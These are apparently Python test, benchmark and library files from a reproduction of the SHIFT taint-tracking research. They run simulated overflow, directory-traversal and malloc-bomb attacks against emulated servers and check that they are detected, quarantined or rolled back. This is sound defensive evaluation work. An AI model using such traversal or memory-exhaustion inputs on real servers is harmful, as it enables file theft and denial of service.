        machine.cpu.write_gr(20, 0xDEAD, nat=True)
        machine.memory.store(machine.address_of("path"), 8, 0x41414141)
        machine.taint_map.set_range(machine.address_of("req"), 64, True)
        machine.cpu.run_slice(5_000)
        assert _machine_state(machine) != reference
        snapshot.restore(machine)
        assert _machine_state(machine) == reference


class TestCheckpointDifferential:
    def test_inject_rollback_resume_bit_identical(self):
        """checkpoint -> inject attack -> rollback -> resume matches a
        straight uninjected run, bit for bit, under both engines."""
        finals = {}
        for engine in ENGINES:
            # The control pauses at the same slice boundary (a pause
            # flushes the open issue group, which is observable in the
            # cycle accounting), then runs to completion uninjected.
            control = victim_machine(engine)
            control.cpu.run_slice(4_000)
            control.cpu.run_slice(5_000_000)
            expected = _machine_state(control)

            machine = victim_machine(engine)
            machine.cpu.run_slice(4_000)
            snapshot = MachineCheckpoint.capture(machine)
            flip_tag(machine, machine.address_of("buf") + 7)
            with pytest.raises(SecurityAlert):
                machine.cpu.run_slice(5_000_000)
            snapshot.restore(machine)
            machine.cpu.run_slice(5_000_000)
            assert machine.cpu.halted
            # The injected-and-recovered run ends in the exact state of
            # the run that never saw the injection (the alert record is
            # deliberate append-only evidence, not machine state).
            assert _machine_state(machine) == expected
            assert len(machine.alerts) == 1
            assert machine.alerts[0].policy_id == "L1"
            finals[engine] = (expected, machine.counters.snapshot())
        assert finals["reference"] == finals["predecoded"]


class TestRecoverWebserver:
    @pytest.mark.parametrize("engine", ENGINES)
    def test_attack_mix_served_and_quarantined(self, engine):
        report = attack_mix(engine=engine)
        assert report["exact"]
        assert report["served"] == report["clean_requests"]
        assert report["quarantined"] == report["attacks"]
        reasons = [i["reason"] for i in report["incidents"]]
        assert reasons == ["alert", "alert", "runaway"]
        policies = [i["policy"] for i in report["incidents"]]
        assert policies[:2] == ["L1", "H2"]

    def test_recover_emits_obs_events(self):
        machine = build_machine(
            RESIL_WEBSERVER_SOURCE, BYTE_STRICT,
            policy_config=webserver_policy(),
            files=make_site((4,)),
            engine_mode="recover", recover_watchdog=2_000_000,
            tracing=True)
        machine.net.add_request(make_request(4))
        machine.net.add_request(overflow_request())
        machine.net.add_request(make_request(4))
        served = machine.run(max_instructions=200_000_000)
        assert served == 2
        kinds = [type(e).__name__ for e in machine.obs.tracer.events()]
        assert "CheckpointEvent" in kinds
        assert "RollbackEvent" in kinds
        assert "QuarantineEvent" in kinds

    def test_unrecoverable_fault_reraises(self):
        """An abort with no pending request at the checkpoint would
        recur deterministically, so recover mode must re-raise it."""
        source = READ + """
        char src[16];
        int main() {
            read(0, src, 8);
            int *p = (int *)(src[0] * 65536);
            return *p;
        }
        """
        machine = build_machine(source, BYTE_STRICT, stdin=b"\x42",
                                engine_mode="recover")
        with pytest.raises(SecurityAlert):
            machine.run(max_instructions=5_000_000)


OOM_SERVER = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);
native int malloc(int n);

char req[64];
int served;

int main() {
    int fd;
    while ((fd = accept()) >= 0) {
        int n = recv(fd, req, 60);
        if (n > 0 && req[0] == 'M') {
            while (1) { malloc(1048576); }
        }
        send(fd, "ok", 2);
        served += 1;
    }
    return served;
}
"""


class TestGuestOOM:
    def test_heap_limit_raises_structured_fault(self):
        source = """
        native int malloc(int n);
        int main() {
            while (1) { malloc(4096); }
            return 0;
        }
        """
        machine = build_machine(source, ShiftOptions(heap_limit=65536))
        with pytest.raises(GuestOOMFault) as excinfo:
            machine.run(max_instructions=10_000_000)
        fault = excinfo.value
        assert fault.requested == 4096
        assert fault.limit == 65536
        assert 0 <= fault.in_use <= fault.limit

    def test_heap_limit_must_be_positive(self):
        with pytest.raises(ValueError):
            ShiftOptions(heap_limit=0)

    def test_recover_mode_quarantines_malloc_bomb(self):
        machine = build_machine(
            OOM_SERVER, ShiftOptions(granularity=1, heap_limit=1 << 22),
            policy_config=webserver_policy(),
            engine_mode="recover")
        machine.net.add_request(b"hello")
        machine.net.add_request(b"MALLOC-BOMB")
        machine.net.add_request(b"world")
        served = machine.run(max_instructions=200_000_000)
        assert served == 2
        assert [i.reason for i in machine.resil.incidents] == ["oom"]
        assert [c.index for c in machine.net.quarantined] == [2]


TRANSIENT_READER = READ + """
native int open(char *path, int flags);
char buf[256];
int total;
int main() {
    int f = open("/data", 0);
    if (f < 0) { return -1; }
    int got = read(f, buf, 64);
    while (got > 0) {
        total += got;
        got = read(f, buf, 64);
    }
    if (got < 0) { return -2; }
    return total;
}
"""


class TestTransientIO:
    def test_retries_absorb_transient_errors(self):
        machine = build_machine(TRANSIENT_READER, ShiftOptions(mode="none"),
                                files={"/data": b"x" * 200})
        machine.fs.faults = TransientErrorInjector(seed=7, fail_rate=0.4)
        exit_code = machine.run(max_instructions=10_000_000)
        assert exit_code == 200
        assert machine.os.io_retries > 0
        assert machine.os.io_failures == 0

    def test_truncated_reads_still_deliver_everything(self):
        machine = build_machine(TRANSIENT_READER, ShiftOptions(mode="none"),
                                files={"/data": b"y" * 200})
        machine.fs.faults = TransientErrorInjector(seed=11,
                                                   truncate_rate=0.6)
        exit_code = machine.run(max_instructions=10_000_000)
        # Short reads shrink individual transfers, never lose bytes.
        assert exit_code == 200
        assert machine.fs.faults.injected_truncations > 0

    def test_exhausted_retries_surface_as_io_error(self):
        machine = build_machine(TRANSIENT_READER, ShiftOptions(mode="none"),
                                files={"/data": b"z" * 200})
        machine.fs.faults = TransientErrorInjector(seed=3, fail_rate=1.0)
        exit_code = machine.run(max_instructions=10_000_000)
        assert exit_code in ((-2) & ((1 << 64) - 1), -2, 254)
        assert machine.os.io_failures > 0


class TestCampaign:
    def test_quick_campaign_detects_everything(self):
        report = run_campaign(trials_per_kind=2, seed=99, quick=True)
        assert report["kinds"]["tag_flip"]["detection_rate"] == 1.0
        assert report["kinds"]["nat_drop"]["detection_rate"] == 1.0
        for control in report["controls"]:
            assert control["false_alerts"] == 0
        for kind in report["kinds"].values():
            assert kind["false_alerts"] == 0


class TestStructuredErrors:
    def test_server_shortfall_carries_counts(self):
        err = ServerShortfallError(3, 5)
        assert isinstance(err, AssertionError)
        assert (err.served, err.requested) == (3, 5)
        assert "3/5" in str(err)

    def test_runaway_gets_terminal_trace_event(self):
        source = """
        int main() {
            int i = 0;
            while (1) { i = i + 1; }
            return i;
        }
        """
        machine = build_machine(source, ShiftOptions(mode="none"),
                                tracing=True)
        with pytest.raises(RunawayError):
            machine.run(max_instructions=10_000)
        events = list(machine.obs.tracer.events())
        assert events, "expected a terminal trace event"
        last = events[-1]
        assert type(last).__name__ == "FaultEvent"
        assert last.fault == "RunawayError"
