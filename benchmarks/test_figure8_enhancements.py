"""Figure 8: impact of the proposed architectural enhancements.

Paper result: set/clear-NaT instructions cut the average slowdown by
~16 points; adding the NaT-aware compare cuts ~49 (byte) / ~47 (word)
points in total; the reduction tracks how much tainted data a benchmark
touches (gcc 173/166 points, mcf only 2/5).
"""

from benchmarks.conftest import publish
from repro.harness import format_figure8, run_figure8
from repro.harness.charts import figure8_chart

SCALE = "ref"


def test_figure8(benchmark):
    result = benchmark.pedantic(run_figure8, kwargs={"scale": SCALE},
                                rounds=1, iterations=1)
    publish("figure8", format_figure8(result) + "\n\n" + figure8_chart(result, "byte"))

    for level in ("byte", "word"):
        rows = {row.benchmark: row for row in result.level_rows(level)}
        for row in rows.values():
            # Enhancements never hurt.
            assert row.set_clear <= row.unsafe * 1.02, (row.benchmark, level)
            assert row.both <= row.set_clear * 1.02, (row.benchmark, level)
        # Both enhancements together recover a visible chunk on average.
        assert result.mean_reduction(level, "both") > 8.0, level
        # mcf barely moves (paper: 2-5 points).
        assert rows["mcf"].both_reduction_points < 10.0
        # The most compare-dense tainted benchmark moves the most.
        best = max(r.both_reduction_points for r in rows.values())
        assert best > 3 * max(rows["mcf"].both_reduction_points, 1.0)
