"""Table 1: the policy catalogue (static regeneration)."""

from benchmarks.conftest import publish
from repro.harness import format_table1_output, run_table1


def test_table1(benchmark):
    policies = benchmark.pedantic(run_table1, rounds=1, iterations=1)
    assert len(policies) == 8
    assert [p.policy_id for p in policies] == [
        "H1", "H2", "H3", "H4", "H5", "L1", "L2", "L3",
    ]
    publish("table1", format_table1_output())
