"""Related-work comparison (paper section 7.1 context).

SHIFT's hardware-assisted register tracking beats a LIFT-style software
DBT tracker, which in turn beats interpretation-based emulation — the
paper's 2.81X vs 4.6X vs tens-of-X related-work ordering.
"""

from benchmarks.conftest import publish
from repro.harness import format_baselines, run_baseline_comparison

SCALE = "ref"


def test_baseline_comparison(benchmark):
    result = benchmark.pedantic(run_baseline_comparison, kwargs={"scale": SCALE},
                                rounds=1, iterations=1)
    publish("baselines", format_baselines(result))

    shift_byte = result.mean("shift_byte")
    shift_word = result.mean("shift_word")
    lift = result.mean("lift")
    interp = result.mean("interpreter")
    assert shift_word < shift_byte < lift < interp
    assert lift > shift_byte * 1.2  # SHIFT's clear win over software DBT
    assert interp > 5.0  # emulation is far slower than everything
