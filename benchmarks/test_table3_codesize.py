"""Table 3: code-size expansion under instrumentation."""

from benchmarks.conftest import publish
from repro.harness import format_table3, run_table3


def test_table3(benchmark):
    rows = benchmark.pedantic(run_table3, kwargs={"scale": "ref"},
                              rounds=1, iterations=1)
    publish("table3", format_table3(rows))
    by_name = {row.name: row for row in rows}
    assert set(by_name) == {"libc", "gzip", "gcc", "crafty", "bzip2",
                            "vpr", "mcf", "parser", "twolf"}
    for row in rows:
        # Byte-level always expands code more than word-level (the paper
        # observes the same ordering for every application).
        assert 0 < row.word_overhead_percent < row.byte_overhead_percent, row.name
    # SPEC expansion lands in the paper's reported bands.
    spec = [row for row in rows if row.name != "libc"]
    assert all(100 <= row.word_overhead_percent <= 260 for row in spec)
    assert all(140 <= row.byte_overhead_percent <= 320 for row in spec)
