"""Figure 9: breakdown of the instrumentation overhead.

Paper result: tag-address *computation* costs far more than bitmap
*memory access* (most bitmap accesses hit in L1; Itanium's
unimplemented-bits translation makes the computation long), and load
instrumentation outweighs store instrumentation because programs
execute more loads.
"""

from benchmarks.conftest import publish
from repro.harness import format_figure9, run_figure9
from repro.harness.charts import figure9_chart

SCALE = "ref"


def test_figure9(benchmark):
    result = benchmark.pedantic(run_figure9, kwargs={"scale": SCALE},
                                rounds=1, iterations=1)
    publish("figure9", format_figure9(result) + "\n\n" + figure9_chart(result, "byte"))

    compute_wins = 0
    loads_win = 0
    for row in result.rows:
        if row.computation_total > row.memory_total:
            compute_wins += 1
        if row.load_compute + row.load_mem >= row.store_compute + row.store_mem:
            loads_win += 1
    total = len(result.rows)
    # Computation dominates bitmap access essentially everywhere.
    assert compute_wins >= total - 1, f"{compute_wins}/{total}"
    # Load instrumentation dominates store instrumentation for most
    # benchmarks (mcf's store misses are the paper-consistent exception).
    assert loads_win >= total - 3, f"{loads_win}/{total}"
