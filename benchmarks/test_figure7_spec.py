"""Figure 7: SPEC-INT2000 slowdown, four bars per benchmark.

Paper result: byte-level 2.81X average (1.32X-4.73X), word-level 2.27X
(1.34X-3.80X); gcc worst, mcf best; safe-input runs cheaper.
"""

from benchmarks.conftest import publish
from repro.harness import format_figure7, run_figure7
from repro.harness.charts import figure7_chart

SCALE = "ref"


def test_figure7(benchmark):
    result = benchmark.pedantic(run_figure7, kwargs={"scale": SCALE},
                                rounds=1, iterations=1)
    publish("figure7", format_figure7(result) + "\n\n" + figure7_chart(result))
    rows = {row.benchmark: row for row in result.rows}
    assert len(rows) == 8

    # Per-benchmark orderings the paper reports:
    for row in result.rows:
        assert row.byte_unsafe > 1.0, row.benchmark
        # byte-level tracking costs more than word-level
        assert row.byte_unsafe >= row.word_unsafe * 0.98, row.benchmark
        # tainting the input never makes it cheaper
        assert row.byte_unsafe >= row.byte_safe * 0.98, row.benchmark

    # mcf (cache-miss bound) is the least-affected benchmark.
    assert rows["mcf"].byte_unsafe == min(r.byte_unsafe for r in result.rows)

    # The averages land in a sensible band around the paper's numbers.
    byte_mean = result.mean("byte_unsafe")
    word_mean = result.mean("word_unsafe")
    assert 1.6 < byte_mean < 3.5, byte_mean
    assert 1.5 < word_mean < 3.0, word_mean
    assert byte_mean > word_mean
