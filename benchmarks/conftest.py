"""Benchmark-suite helpers: every benchmark regenerates one paper
table/figure, prints it, and archives it under results/."""

from __future__ import annotations

import pathlib

RESULTS_DIR = pathlib.Path(__file__).resolve().parent.parent / "results"


def publish(name: str, text: str) -> None:
    """Print a regenerated table and archive it under results/."""
    print()
    print(text)
    RESULTS_DIR.mkdir(exist_ok=True)
    (RESULTS_DIR / f"{name}.txt").write_text(text + "\n")
