"""Ablations of the design choices called out in DESIGN.md.

These are not paper figures; each isolates a claim the paper makes in
prose: NaT-source generation granularity (4.4), Itanium vs x86-style
tag translation (6.4), compare-relaxation cost (4.1), and how much
instrumentation EPIC issue slack hides.
"""

from benchmarks.conftest import publish
from repro.harness import (
    format_ablations,
    format_width_ablation,
    run_ablations,
    run_width_ablation,
)


def test_design_ablations(benchmark):
    result = benchmark.pedantic(
        run_ablations, kwargs={"scale": "ref", "benchmarks": ["gzip", "gcc", "mcf"]},
        rounds=1, iterations=1,
    )
    publish("ablations", format_ablations(result))
    base = result.mean("byte (baseline)")
    # Per-use NaT generation is strictly worse (paper 4.4).
    assert result.mean("natgen per use") > base
    # A kept global NaT source is at least as cheap as per-function.
    assert result.mean("natgen global") <= base * 1.01
    # x86-style flat translation is cheaper than the Itanium combine
    # (paper 6.4 blames the unimplemented bits for the computation cost).
    assert result.mean("x86-style tag xlat") < base
    # Compare relaxation has a visible static cost even on clean data.
    assert result.mean("no relax (safe)") < result.mean("byte (safe input)")


def test_issue_width_ablation(benchmark):
    rows = benchmark.pedantic(
        run_width_ablation,
        kwargs={"benchmark": "gzip", "scale": "test", "widths": (1, 2, 6)},
        rounds=1, iterations=1,
    )
    publish("ablation_width", format_width_ablation(rows))
    by_width = {row.width: row.slowdown for row in rows}
    # A scalar machine cannot hide instrumentation in empty slots.
    assert by_width[1] > by_width[6]


def test_static_pruning_never_hurts(benchmark):
    """The paper-4.4 compiler optimisation: statically-clean compares
    skip relaxation entirely, with identical program results."""
    from repro.apps.spec import BENCHMARKS
    from repro.compiler.instrument import ShiftOptions
    from repro.harness.runners import PERF_OPTIONS, run_spec

    pruned_options = ShiftOptions(granularity=1, pointer_policy="permissive",
                                  prune_clean_compares=True)

    def measure():
        rows = []
        for name in ("gzip", "crafty", "mcf"):
            bench = BENCHMARKS[name]
            base = run_spec(bench, PERF_OPTIONS["none"], "test")
            plain = run_spec(bench, PERF_OPTIONS["byte"], "test")
            pruned = run_spec(bench, pruned_options, "test")
            rows.append((name, base.checksum, pruned.checksum,
                         plain.cycles, pruned.cycles))
        return rows

    for name, base_sum, pruned_sum, plain_cycles, pruned_cycles in \
            benchmark.pedantic(measure, rounds=1, iterations=1):
        assert pruned_sum == base_sum, name
        assert pruned_cycles <= plain_cycles * 1.01, name
