"""Table 2: the full security evaluation.

Every application is attacked unprotected (exploit must succeed) and
protected at byte and word level (must be detected with no false
positives on benign inputs) — the paper's headline security result.
"""

from benchmarks.conftest import publish
from repro.harness import format_table2, run_table2


def test_table2(benchmark):
    result = benchmark.pedantic(run_table2, rounds=1, iterations=1)
    publish("table2", format_table2(result))
    assert len(result.evaluations) == 8
    for evaluation in result.evaluations:
        name = evaluation.app.name
        assert evaluation.attack_succeeds_unprotected, name
        assert evaluation.detected_byte and evaluation.detected_word, name
        assert evaluation.alert_policy_byte == evaluation.app.expected_policy, name
    assert result.all_detected
    assert result.no_false_positives
