"""Figure 6: web-server overhead at 4/8/16/512 KB file sizes.

Paper result: about 1% geometric-mean overhead for both latency and
throughput at both granularities, with the 4 KB request the worst point
(~4.2%) because it has the smallest I/O share.
"""

from benchmarks.conftest import publish
from repro.harness import format_figure6, run_figure6

REQUESTS = 25


def test_figure6(benchmark):
    result = benchmark.pedantic(
        run_figure6,
        kwargs={"sizes_kb": (4, 8, 16, 512), "requests": REQUESTS},
        rounds=1, iterations=1,
    )
    publish("figure6", format_figure6(result))
    # Headline: overhead is small at every size and level.
    assert 0.0 <= result.mean_overhead_percent < 5.0
    for row in result.rows:
        assert row.byte_latency < 1.10
        assert row.word_latency <= row.byte_latency * 1.01
        assert row.byte_throughput > 0.90
    # The smallest file pays the largest relative overhead.
    by_size = {row.file_kb: row for row in result.rows}
    assert by_size[4].byte_overhead_percent >= by_size[512].byte_overhead_percent
