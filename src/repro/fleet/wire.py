"""The taint-preserving wire format: payload bytes + their tag bits.

SHIFT's protection is end-to-end only while the taint travels *with*
the data.  Inside one machine the bitmap does that; the moment bytes
cross a machine boundary (frontend -> backend, tier 1 -> tier 2) the
tags must ride along or the backend sees clean bytes and every policy
goes blind.  :class:`TaggedMessage` is that transport: a self-delimiting
binary frame carrying the payload, a packed per-byte tag vector (1/8th
of the payload, the same density as the in-memory bitmap), the
producer's tracking granularity, and a CRC.

Ingress is symmetric: :meth:`TaggedMessage.deliver` queues the payload
on a machine's :class:`~repro.runtime.devices.SimNetwork` with the tag
vector attached, and the guest-side ``recv`` native re-applies exactly
those bits to the destination buffer (see ``GuestOS._apply_wire_tags``).

Frame layout (little-endian)::

    magic      4s   b"STM1"
    granular   u8   producer granularity (1 = byte, 8 = word)
    _pad       u8   0
    request_id u32  producer-side request number
    origin_len u16  length of the origin label
    payload_len u32
    tags_len   u32  == ceil(payload_len / 8)
    origin     origin_len bytes (utf-8)
    payload    payload_len bytes
    tags       tags_len bytes (bit i of byte i>>3 = taint of payload[i])
    crc32      u32  over everything above
"""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass
from typing import List

from repro.taint.bitmap import pack_flags, unpack_flags

MAGIC = b"STM1"
_HEADER = struct.Struct("<4sBBIHII")
_CRC = struct.Struct("<I")

#: Granularities a conforming producer may declare.
VALID_GRANULARITIES = (1, 8)


class WireFormatError(ValueError):
    """A frame that cannot be decoded (truncated, corrupt, or alien)."""


@dataclass
class TaggedMessage:
    """One payload crossing a machine boundary with its taint attached."""

    payload: bytes
    #: Packed per-byte taint bits, ``ceil(len(payload)/8)`` bytes.
    tags: bytes = b""
    #: Tracking granularity of the producing machine (metadata only —
    #: the tag vector itself is always byte-granular).
    granularity: int = 1
    #: Producer-side request number (Connection.index at the producer).
    request_id: int = 0
    #: Where the message came from, e.g. ``"frontend:w0"``.
    origin: str = ""

    def __post_init__(self) -> None:
        need = (len(self.payload) + 7) >> 3
        if not self.tags:
            self.tags = bytes(need)
        if len(self.tags) != need:
            raise WireFormatError(
                f"tag vector is {len(self.tags)} bytes, payload of "
                f"{len(self.payload)} needs {need}")
        if self.granularity not in VALID_GRANULARITIES:
            raise WireFormatError(f"bad granularity {self.granularity}")

    # -- construction --------------------------------------------------

    @classmethod
    def from_flags(cls, payload: bytes, flags: List[bool],
                   **meta) -> "TaggedMessage":
        """Build from per-byte taint flags (padded/truncated to fit)."""
        flags = list(flags[:len(payload)])
        flags += [False] * (len(payload) - len(flags))
        return cls(payload=bytes(payload), tags=pack_flags(flags), **meta)

    @classmethod
    def capture(cls, machine, addr: int, length: int,
                **meta) -> "TaggedMessage":
        """Snapshot a guest-memory range plus its bitmap slice."""
        payload = bytes(machine.memory.read_bytes(addr, length))
        tags = machine.taint_map.export_range(addr, length)
        meta.setdefault("granularity", machine.taint_map.granularity)
        return cls(payload=payload, tags=tags, **meta)

    @classmethod
    def capture_response(cls, machine, conn, **meta) -> "TaggedMessage":
        """Egress: a connection's outbound bytes + their recorded tags.

        Requires the connection to have run with ``capture_taint=True``
        (the fleet layer's default for proxied connections).
        """
        payload = bytes(conn.outbound)
        flags = conn.outbound_tags or []
        meta.setdefault("granularity", machine.taint_map.granularity)
        meta.setdefault("request_id", conn.index)
        return cls.from_flags(payload, flags, **meta)

    # -- taint accessors ------------------------------------------------

    def flags(self) -> List[bool]:
        """Per-byte taint flags of the payload."""
        return unpack_flags(self.tags, len(self.payload))

    @property
    def tainted_count(self) -> int:
        """Number of tainted payload bytes."""
        return sum(byte.bit_count() for byte in self.tags)

    @property
    def any_tainted(self) -> bool:
        """True when at least one payload byte is tainted."""
        return any(self.tags)

    # -- serialisation ---------------------------------------------------

    def to_bytes(self) -> bytes:
        """Encode the frame (header + body + CRC32)."""
        origin = self.origin.encode("utf-8")
        head = _HEADER.pack(MAGIC, self.granularity, 0,
                            self.request_id & 0xFFFFFFFF,
                            len(origin), len(self.payload), len(self.tags))
        body = head + origin + self.payload + self.tags
        return body + _CRC.pack(zlib.crc32(body))

    @classmethod
    def from_bytes(cls, data: bytes) -> "TaggedMessage":
        """Decode one frame; raises :class:`WireFormatError` on damage."""
        if len(data) < _HEADER.size + _CRC.size:
            raise WireFormatError(f"frame truncated at {len(data)} bytes")
        magic, granularity, _pad, request_id, origin_len, payload_len, \
            tags_len = _HEADER.unpack_from(data)
        if magic != MAGIC:
            raise WireFormatError(f"bad magic {magic!r}")
        if granularity not in VALID_GRANULARITIES:
            raise WireFormatError(f"bad granularity {granularity}")
        total = _HEADER.size + origin_len + payload_len + tags_len + _CRC.size
        if len(data) != total:
            raise WireFormatError(
                f"frame is {len(data)} bytes, header declares {total}")
        if tags_len != (payload_len + 7) >> 3:
            raise WireFormatError(
                f"tag vector of {tags_len} bytes does not cover a "
                f"{payload_len}-byte payload")
        (crc,) = _CRC.unpack_from(data, total - _CRC.size)
        if crc != zlib.crc32(data[:total - _CRC.size]):
            raise WireFormatError("CRC mismatch")
        pos = _HEADER.size
        origin = data[pos:pos + origin_len].decode("utf-8")
        pos += origin_len
        payload = data[pos:pos + payload_len]
        pos += payload_len
        tags = data[pos:pos + tags_len]
        return cls(payload=payload, tags=tags, granularity=granularity,
                   request_id=request_id, origin=origin)

    # -- ingress ---------------------------------------------------------

    def deliver(self, machine, *, capture_taint: bool = False):
        """Queue this message on a machine's network with tags attached.

        Returns the created connection, or None when the machine's
        bounded pending queue refused it (backpressure).
        """
        return machine.net.add_request(
            self.payload, taint_mask=self.tags, capture_taint=capture_taint)

    def describe(self) -> str:
        """One-line summary for logs and incident reports."""
        return (f"msg#{self.request_id} from {self.origin or '?'}: "
                f"{len(self.payload)} bytes, {self.tainted_count} tainted")
