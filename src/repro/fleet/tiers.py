"""The two-tier experiment: cross-machine taint, end to end.

Tier 1 is a small fleet of reverse proxies (``FLEET_PROXY_SOURCE``):
each accepts requests off the untrusted network (so every request byte
is tainted on ingress), validates the request line, and forwards the
raw bytes.  The fleet layer captures each forwarded response *with its
taint* (``capture_taint=True``), wraps it in a
:class:`~repro.fleet.wire.TaggedMessage`, serialises it to the binary
frame, and carries it to tier 2 — the actual byte string crosses the
"wire".

Tier 2 is the standard file server running the *backend* policy: its
own network ingress is trusted (the proxy terminated the trust
boundary), so the only way a backend byte can be tainted is if the tag
arrived in the frame.  A directory traversal injected at tier 1 is
therefore caught by policy H2 at tier 2 **only** because the taint was
transported.

The control run proves the mechanism: same requests, same machines,
tags stripped from the frames.  The traversal sails through H2 (no
taint, no check), the backend happily serves ``/etc/secret``, and the
secret bytes appear in the response — zero alerts, one leak.  Detection
with tags + leak without tags = the wire transport is load-bearing.
"""

from __future__ import annotations

import hashlib
from typing import Dict, List, Optional

from repro.fleet.driver import FleetConfig, FleetDriver
from repro.fleet.wire import TaggedMessage

#: Planted outside the backend's document root; served only if the
#: traversal goes undetected (the control run proves it would).
SECRET_PATH = "/etc/secret"
SECRET = b"TOP-SECRET: backend credential material\n"

#: Per-request instruction budget for both tiers.
TIER_WATCHDOG = 2_000_000


def backend_site(sizes=(4,)) -> Dict[str, bytes]:
    """Backend document root plus the out-of-root secret file."""
    from repro.apps.webserver import make_site

    files = make_site(tuple(sizes))
    files[SECRET_PATH] = SECRET
    return files


def request_mix(clean: int, attacks: int) -> List[bytes]:
    """Deterministic interleave of clean requests and traversals."""
    from repro.apps.webserver import make_request, traversal_request

    out: List[bytes] = []
    for i in range(max(clean, attacks)):
        if i < clean:
            out.append(make_request(4))
        if i < attacks:
            out.append(traversal_request())
    return out


def run_two_tier(*, clean: int = 4, attacks: int = 1,
                 proxy_workers: int = 2, routing: str = "round_robin",
                 seed: int = 0, engine: str = "predecoded",
                 transport_tags: bool = True,
                 adaptive: str = "none",
                 options=None) -> Dict:
    """Run the proxy fleet, ship frames to the backend, run the backend.

    With ``transport_tags=False`` the frames are re-issued with an
    all-clear tag vector (the payload bytes are identical) — the
    control arm that shows what the backend misses without the wire
    taint.  ``adaptive`` selects the backend tier's execution mode
    (one of :data:`repro.harness.runners.ADAPTIVE_MODES`); under
    ``"speculate"`` the backend serves requests on the fast copy with
    sends deferred to epoch commit, so a rolled-back epoch must leave
    zero phantom bytes on the wire.
    """
    from repro.harness.runners import (
        PERF_OPTIONS, backend_policy, build_web_machine, webserver_policy)

    opts = options if options is not None else PERF_OPTIONS["byte"]

    # -- tier 1: the proxy fleet ----------------------------------------
    tier1 = FleetDriver(
        FleetConfig(variant="proxy", options=opts,
                    policy=webserver_policy(), engine=engine,
                    engine_mode="raise", recover_watchdog=None,
                    capture_taint=True),
        workers=proxy_workers, routing=routing, seed=seed)
    requests = request_mix(clean, attacks)
    result1 = tier1.run(requests)

    # -- the wire: capture, frame, decode --------------------------------
    frames: List[bytes] = []
    rejected = 0
    for wid in tier1.worker_ids:
        machine = result1.machines[wid]
        for conn in machine.net.completed:
            if not bytes(conn.outbound).startswith(b"GET "):
                rejected += 1  # proxy answered 400 itself
                continue
            msg = TaggedMessage.capture_response(
                machine, conn, origin=f"tier1:{wid}")
            frames.append(msg.to_bytes())
    messages = [TaggedMessage.from_bytes(frame) for frame in frames]
    if not transport_tags:
        messages = [TaggedMessage(payload=m.payload, request_id=m.request_id,
                                  origin=m.origin) for m in messages]

    # -- tier 2: the backend --------------------------------------------
    backend = build_web_machine(
        "standard", opts, policy_config=backend_policy(),
        files=backend_site(), engine=engine, engine_mode="recover",
        recover_watchdog=TIER_WATCHDOG, machine_id="backend",
        adaptive=adaptive)
    for msg in messages:
        msg.deliver(backend)
    served = backend.run(max_instructions=1_000_000_000)

    incidents = [
        {"worker": inc.worker, "request_index": inc.request_index,
         "reason": inc.reason, "policy_id": inc.policy_id,
         "message": inc.message}
        for inc in backend.resil.incidents
    ]
    detected = sum(1 for inc in incidents if inc["policy_id"] == "H2")
    leaked = any(SECRET in bytes(c.outbound)
                 for c in backend.net.completed)
    if transport_tags:
        ok = (detected == attacks
              and len(incidents) == attacks
              and len(backend.net.quarantined) == attacks
              and served == clean
              and not leaked)
    else:
        ok = (not incidents
              and not backend.alerts
              and served == clean + attacks
              and leaked)
    return {
        "transport_tags": transport_tags,
        "clean": clean,
        "attacks": attacks,
        "tier1": {
            "workers": proxy_workers,
            "routing": routing,
            "forwarded": len(frames),
            "rejected": rejected,
            "sim_cycles": result1.sim_cycles,
        },
        "wire": {
            "frames": len(frames),
            "frame_bytes": sum(len(f) for f in frames),
            "tainted_bytes": sum(m.tainted_count for m in messages),
        },
        "tier2": {
            "served": served,
            "quarantined": len(backend.net.quarantined),
            "detected_h2": detected,
            "incidents": incidents,
            "alerts": [a.policy_id for a in backend.alerts],
            "secret_leaked": leaked,
            "sim_cycles": backend.counters.cycles,
            "response_digests": [
                hashlib.sha256(bytes(c.outbound)).hexdigest()
                for c in backend.net.completed],
            "response_bytes": sum(len(c.outbound)
                                  for c in backend.net.completed),
            "spec": (None if backend.spec is None else {
                "epochs": backend.spec.epochs,
                "commits": backend.spec.commits,
                "rollbacks": backend.spec.rollbacks,
                "deferred_sends": backend.spec.deferred_sends,
                "deferred_bytes": backend.spec.deferred_bytes,
            }),
        },
        "ok": ok,
    }


def two_tier_experiment(*, clean: int = 4, attacks: int = 1,
                        proxy_workers: int = 2,
                        routing: str = "round_robin", seed: int = 0,
                        engine: str = "predecoded",
                        options=None) -> Dict:
    """Both arms of the proof: tags transported vs. tags stripped."""
    tagged = run_two_tier(
        clean=clean, attacks=attacks, proxy_workers=proxy_workers,
        routing=routing, seed=seed, engine=engine, transport_tags=True,
        options=options)
    control = run_two_tier(
        clean=clean, attacks=attacks, proxy_workers=proxy_workers,
        routing=routing, seed=seed, engine=engine, transport_tags=False,
        options=options)
    return {
        "tagged": tagged,
        "control": control,
        "proof": bool(tagged["ok"] and control["ok"]),
    }
