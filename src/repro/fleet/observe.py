"""Fleet-level observability: merged metrics and incident reports.

Each worker Machine already produces a full metrics registry
(:func:`repro.obs.metrics.collect_machine`) and, in ``recover`` mode, a
list of quarantine incidents.  This module folds those per-worker views
into one fleet view:

* :func:`merge_metric_dicts` — sum worker metric snapshots, with the
  non-additive keys handled honestly (cache miss rates are recomputed
  from the summed accesses/misses, granularity and capacity are
  configuration, min/max histogram bounds take min/max).
* :func:`merge_worker_metrics` — the merged snapshot plus ``fleet.*``
  instruments (worker counts, routing spill/drop, simulated cycles,
  per-worker utilization) in a renderable
  :class:`~repro.obs.metrics.MetricsRegistry`.
* :func:`frontend_metrics` — a live :class:`FleetFrontend`'s routing
  counters (``frontend.dropped`` spill-then-drop rejections,
  ``frontend.spilled``) and per-worker queue depths as instruments.
* :func:`incident_report` / :func:`render_incidents` — every quarantine
  and ejection across the fleet, each naming the worker, the request
  index, the tripped policy and the taint-origin chain that fed it.
"""

from __future__ import annotations

from typing import Dict, List, Union

Number = Union[int, float]

#: Metric keys that are fleet-wide configuration, not per-worker load:
#: merging takes the max instead of summing.
CONFIG_KEYS = frozenset({"taint.granularity", "net.capacity"})


def merge_metric_dicts(snapshots: List[Dict[str, Number]]) -> Dict[str, Number]:
    """Fold per-worker ``metrics().to_dict()`` snapshots into one.

    Counters and load gauges sum across workers; derived and
    configuration values are recomputed or carried instead of summed.
    """
    merged: Dict[str, Number] = {}
    for snap in snapshots:
        for key, value in snap.items():
            if key.endswith(".min"):
                merged[key] = min(merged.get(key, value), value)
